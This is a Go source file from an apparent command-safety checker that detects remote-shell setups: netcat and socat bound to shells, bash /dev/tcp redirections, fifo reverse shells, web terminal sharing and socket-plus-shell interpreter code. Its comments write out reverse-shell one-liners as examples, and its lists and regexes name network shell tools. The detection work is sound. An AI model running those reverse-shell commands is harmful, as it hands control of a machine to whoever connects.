package policy

import (
	"slices"
	"strings"

	"github.com/gemini-guard/gemini-guard/internal/lazyregexp"
	"github.com/gemini-guard/gemini-guard/internal/shell"
)

// The machine handed to whoever connects: a shell or interpreter bound to
// a network socket (a bind or reverse shell, a terminal served on the
// web). The home directory served over HTTP is secrets.home-served's
// (checkHomeServed, secrets.go).

// isRemoteShell reports whether a program word (or the first word of a
// command line) is a shell or an interpreter: fed from a socket, it runs
// whatever the other end sends. The shells and the stdin runners are the
// analysis's own lists; python and busybox read their code elsewhere
// there, cmd is Windows'.
func isRemoteShell(word string) bool {
	f := strings.Fields(word)
	if len(f) == 0 {
		return false
	}
	name := shell.CommandName(f[0])
	return shell.IsShell(name) || shell.RunsStdin(name) || strings.HasPrefix(name, "python") || name == "busybox" || name == "cmd"
}

// checkRemoteShell: nc/ncat -e/-c, socat joining a network address to
// EXEC:/SYSTEM: of a shell, gotty/ttyd serving a shell.
func checkRemoteShell(c *Call) Finding {
	if f := checkSocketShell(c); f.Hit {
		return f
	}
	if f := checkCodeRemoteShell(c.Ex); f.Hit {
		return f
	}
	switch c.Ex.Name {
	case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "pwncat":
		return c.netcatShell()
	case "socat":
		return socatShell(c.Args)
	case "gotty", "ttyd", "shellinaboxd", "wetty", "tty-share", "sshx", "upterm", "tmate":
		return c.terminalShared()
	}
	return Finding{}
}

// netcatShell: nc -e /bin/sh, ncat --sh-exec, --lua-exec.
func (c *Call) netcatShell() Finding {
	args := c.Args
	for i, a := range args {
		prog := netcatExec(args, i)
		if prog != "" && isRemoteShell(c.resolve(prog)) {
			return hit(c.Ex.Name + " " + a + " " + prog + " gives a shell to whoever is at the other end of the connection")
		}
	}
	return Finding{}
}

// netcatExec is the program netcat's option args[i] runs on the
// connection (-e prog, -c cmd, --exec=prog), "" if none.
func netcatExec(args []string, i int) string {
	a := args[i]
	switch {
	case a == "--exec" || a == "--sh-exec" || a == "--lua-exec",
		len(a) > 1 && a[0] == '-' && a[1] != '-' && strings.ContainsAny(a[len(a)-1:], "ec"):
		if i+1 < len(args) {
			return args[i+1]
		}
	case strings.HasPrefix(a, "--exec=") || strings.HasPrefix(a, "--sh-exec="):
		_, prog, _ := strings.Cut(a, "=")
		return prog
	}
	return ""
}

// socatNetworkKinds are the socat address types that are network sockets.
var socatNetworkKinds = []string{"TCP", "UDP", "SSL", "OPENSSL", "SCTP", "SOCKS", "PROXY", "VSOCK", "DCCP"}

// socatShell: socat joining a network socket to EXEC or SYSTEM of a shell.
func socatShell(args []string) Finding {
	network, shellAddr := false, ""
	for _, a := range operands(args) {
		kind, rest, _ := strings.Cut(a, ":")
		kind = strings.ToUpper(kind)
		switch {
		case slices.ContainsFunc(socatNetworkKinds, func(k string) bool { return strings.HasPrefix(kind, k) }):
			network = true
		case kind == "EXEC" || kind == "SYSTEM":
			prog, _, _ := strings.Cut(rest, ",")
			if isRemoteShell(strings.Trim(prog, `"'`)) {
				shellAddr = a
			}
		}
	}
	if network && shellAddr != "" {
		return hit("socat joins a network socket to " + shellAddr + ": a shell for whoever connects")
	}
	return Finding{}
}

// terminalShared: a shell served on the web (gotty bash, ttyd sh), or this
// terminal shared through a link (tmate, tty-share, sshx, upterm).
func (c *Call) terminalShared() Finding {
	name, args := c.Ex.Name, c.Args
	ops := operands(args)
	for _, o := range ops {
		if isRemoteShell(c.resolve(o)) {
			return hit(name + " serves " + o + " on the network: a shell for whoever opens the page")
		}
	}
	if name != "tmate" && name != "tty-share" && name != "sshx" && name != "upterm" {
		return Finding{}
	}
	if len(ops) == 0 && !hasArg(args, "-V", "--version", "-h", "--help") || len(ops) > 0 && slices.Contains([]string{"host", "new-session"}, ops[0]) {
		return hit(name + " shares this terminal's shell with whoever has the link")
	}
	return Finding{}
}

// netPathRe is bash's network pseudo-path: /dev/tcp/host/port opens a
// connection.
var netPathRe = &lazyregexp.Regexp{Expr: `^/dev/(tcp|udp)/[^/]+/[^/]+$`}

// socketClients are programs whose standard input goes to the network.
var socketClients = []string{"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "pwncat", "socat", "telnet", "openssl", "websocat", "cryptcat", "sbd"}

// checkSocketShell: a shell or interpreter whose input or output is a
// network connection: bash -i >& /dev/tcp/h/p 0>&1, exec 5<>/dev/tcp/h/p
// then sh <&5 >&5, or a shell reading its input piped into a network
// client (the fifo reverse shell: cat f | sh -i 2>&1 | nc h p > f).
func checkSocketShell(c *Call) Finding {
	ex := c.Ex
	if f := shellPipedToSocket(ex); f.Hit {
		return f
	}
	if !isRemoteShell(ex.Name) {
		return Finding{}
	}
	for _, r := range ex.Redirs {
		if netPathRe.MatchString(r.Target) || (r.Op == "<&" || r.Op == ">&" || r.Op == "<>") && networkFd(c.Res, ex, r.Target) {
			return hit(ex.Name + " is joined to a network connection (" + r.Op + " " + c.Show(r.Target) + "): a shell for whoever is at the other end")
		}
	}
	return Finding{}
}

// shellPipedToSocket: a shell reading its commands from a pipe whose
// output a socket client sends (sh -i 2>&1 | nc host 4444).
func shellPipedToSocket(ex *shell.Exec) Finding {
	if !slices.Contains(socketClients, ex.Name) || ex.Stdin == nil {
		return Finding{}
	}
	for _, p := range ex.Stdin.Producers {
		if isRemoteShell(p.Name) && readsCommandsFromStdin(p) {
			return hit(p.Name + " reads its commands from a pipe and sends its output through " + ex.Name + ": a shell for whoever is at the other end")
		}
	}
	return Finding{}
}

// networkFd reports whether descriptor fd was opened on the network
// earlier in the command line (exec 5<>/dev/tcp/h/p), or by ex's own
// redirections.
func networkFd(res *shell.Result, ex *shell.Exec, fd string) bool {
	if fd == "" {
		return false
	}
	for _, e := range res.Execs {
		if e != ex && e.Name != "exec" && e.Name != "" {
			continue
		}
		for _, r := range e.Redirs {
			if r.Fd == fd && netPathRe.MatchString(r.Target) {
				return true
			}
		}
	}
	return false
}

// readsCommandsFromStdin reports whether a shell or interpreter runs what
// it reads on standard input: no -c and no script operand.
func readsCommandsFromStdin(ex *shell.Exec) bool {
	for _, a := range ex.Args[1:] {
		if !strings.HasPrefix(a, "-") || a == "-c" || a == "-e" || a == "-m" {
			return false
		}
	}
	return true
}

var (
	// codeSocketRe and codeShellRe find interpreter code that opens a
	// network connection and hands it a shell (the reverse shells of
	// every language: dup2 onto the socket then /bin/sh -i, exec of
	// "/bin/sh -i <&3", popen of each line received).
	codeSocketRe = &lazyregexp.Regexp{Expr: `(?i)(socket\.socket|\bsocket\s*\(|fsockopen|TCPSocket|net\.connect|net\.Socket|new\s+Socket|IO::Socket|Socket\.new|socket_create|dial\s*\()`}
	codeShellRe  = &lazyregexp.Regexp{Expr: `(dup2|["'](/bin/)?(ba|z|da|k)?sh["']|/bin/(ba|z|da|k)?sh\b|\bsh\s+-i\b|cmd\.exe|popen\s*\(\s*\$_)`}
)

// checkCodeRemoteShell: interpreter code that connects a socket and runs
// a shell on it.
func checkCodeRemoteShell(ex *shell.Exec) Finding {
	if len(ex.CodeLiterals) == 0 && shell.Interpreter(ex.Name) == "" || !codeSocketRe.MatchString(ex.Text) || !codeShellRe.MatchString(ex.Text) {
		return Finding{}
	}
	return hit(ex.Name + " code opens a network connection and runs a shell on it: a shell for whoever is at the other end")
}
